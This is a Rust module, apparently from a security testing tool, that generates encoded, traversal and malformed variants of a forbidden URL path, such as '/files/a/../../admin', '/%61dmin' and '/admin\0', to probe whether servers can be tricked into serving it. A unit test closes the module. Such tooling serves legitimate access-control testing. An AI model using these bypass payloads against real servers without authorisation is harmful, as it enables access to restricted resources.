//! Odd spellings of a path, each of which some server reads as that path.

/// A target, and what is odd about it.
pub(super) struct Spelling {
    pub(super) id: &'static str,
    pub(super) target: Vec<u8>,
}

/// Spellings of `forbidden`, some of which begin as `permitted` does. Both begin with a slash.
pub(super) fn of_forbidden(permitted: &str, forbidden: &str, host: &str) -> Vec<Spelling> {
    let up = permitted.matches('/').count();
    let through = |segment: &str| format!("{permitted}{}{forbidden}", segment.repeat(up));
    let (head, tail) = forbidden.split_at(1);
    let slashes =
        |spelt: &str| format!("{permitted}{}{spelt}{tail}", format!("{spelt}..").repeat(up));
    let first = tail.bytes().next().unwrap_or_default();
    let rest = tail.get(1..).unwrap_or_default();
    let texts = [
        ("dots", through("/..")),
        ("encoded-dots", through("/%2e%2e")),
        ("half-encoded-dots", through("/.%2E")),
        ("dots-with-parameter", through("/..;x")),
        ("doubly-encoded-dots", through("/%252e%252e")),
        ("encoded-slashes", slashes("%2f")),
        ("backslashes", slashes("\\")),
        ("encoded-backslashes", slashes("%5c")),
        ("doubly-encoded-slashes", slashes("%252f")),
        ("double-slash", format!("/{forbidden}")),
        ("single-dot", format!("/.{forbidden}")),
        ("slash-at-the-end", format!("{forbidden}/")),
        ("parameter", format!("{forbidden};x")),
        ("encoded-parameter", format!("{forbidden}%3bx")),
        ("encoded-slash-at-the-end", format!("{forbidden}%2f")),
        ("encoded-letter", format!("{head}%{first:02x}{rest}")),
        ("doubly-encoded-letter", format!("{head}%25{first:02x}{rest}")),
        ("blank-at-the-end", format!("{forbidden}%20")),
        ("encoded-nul", format!("{forbidden}%00")),
        ("query-that-looks-like-a-path", format!("{forbidden}?{permitted}")),
        ("encoded-query", format!("{forbidden}%3f{permitted}")),
        ("fragment", format!("{forbidden}#{permitted}")),
        ("permitted-through-dots", format!("{forbidden}/..{permitted}")),
        ("no-slash", tail.to_owned()),
        ("absolute-form", format!("http://{host}{forbidden}")),
        ("absolute-form-of-another-host", format!("http://probe.invalid{forbidden}")),
        ("double-slash-host", format!("//probe.invalid/..{forbidden}")),
    ];
    let mut spellings: Vec<_> =
        texts.into_iter().map(|(id, text)| Spelling { id, target: text.into_bytes() }).collect();
    spellings.push(Spelling { id: "nul", target: [forbidden.as_bytes(), b"\0"].concat() });
    spellings
}

/// Spellings of `permitted` itself; `forbidden` stands in a query.
pub(super) fn of_permitted(permitted: &str, forbidden: &str, host: &str) -> Vec<Spelling> {
    let (folder, last) = permitted.rsplit_once('/').unwrap_or_default();
    let texts = [
        ("parameter", format!("{permitted};x")),
        ("double-slash", format!("{folder}//{last}")),
        ("single-dot", format!("{folder}/./{last}")),
        ("encoded-slash-at-the-end", format!("{permitted}%2f")),
        ("encoded-nul", format!("{permitted}%00")),
        ("no-slash", permitted.trim_start_matches('/').to_owned()),
        ("query-that-looks-like-a-path", format!("{permitted}?/..{forbidden}")),
        ("absolute-form", format!("http://{host}{permitted}")),
    ];
    texts.into_iter().map(|(id, text)| Spelling { id, target: text.into_bytes() }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spellings_are_many_different_and_none_is_the_path_itself() {
        let (permitted, forbidden) = ("/files/a", "/admin");
        let all = of_forbidden(permitted, forbidden, "h");
        let targets: std::collections::BTreeSet<_> = all.iter().map(|it| &it.target).collect();
        assert_eq!(targets.len(), all.len());
        assert!(!targets.contains(&forbidden.as_bytes().to_vec()));
        let has = |target: &str| all.iter().any(|it| it.target == target.as_bytes());
        for target in [
            "/files/a/../../admin",
            "/files/a%2f..%2f..%2fadmin",
            "/files/a/%252e%252e/%252e%252e/admin",
            "/%61dmin",
            "/admin;x",
            "admin",
            "/admin\0",
        ] {
            assert!(has(target), "{target:?}");
        }
    }
}
